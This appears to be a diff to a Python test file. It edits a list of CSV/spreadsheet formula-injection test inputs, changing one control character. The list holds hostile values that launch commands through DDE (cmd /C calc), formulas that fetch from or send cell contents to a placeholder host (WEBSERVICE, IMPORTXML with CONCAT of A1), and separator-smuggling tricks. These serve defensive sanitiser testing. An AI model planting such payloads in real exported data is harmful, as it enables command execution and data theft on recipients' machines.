@@ -25,7 +25,7 @@ FORMULAS: Final = [
     *("\ufeff=1", "\u2003@x", "＝1+1", "＋1", "－1", "＠x", "%x", "|x", '=HYPERLINK("http://x","y")', "'=1+1\n=2"),
     *("-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://x")'),
     *('=IMPORTXML(CONCAT("http://x",A1),"//a")', '=IMAGE("http://x")', '=DDE("cmd";"/C calc";"x")', '"=1+1"'),
-    *("a;=1+1", "a; =1", "a;\t@x", "a;b;-1", ";=1", ";;=1", 'x";=1+1;"', "\n\n+1", "\t\t-1", "=\x001"),
+    *("a;=1+1", "a; =1", "a;\t@x", "a;b;-1", ";=1", ";;=1", 'x";=1+1;"', "\n\n+1", "\t\t-1", "=\x071"),
 ]  # fmt: skip
 
 
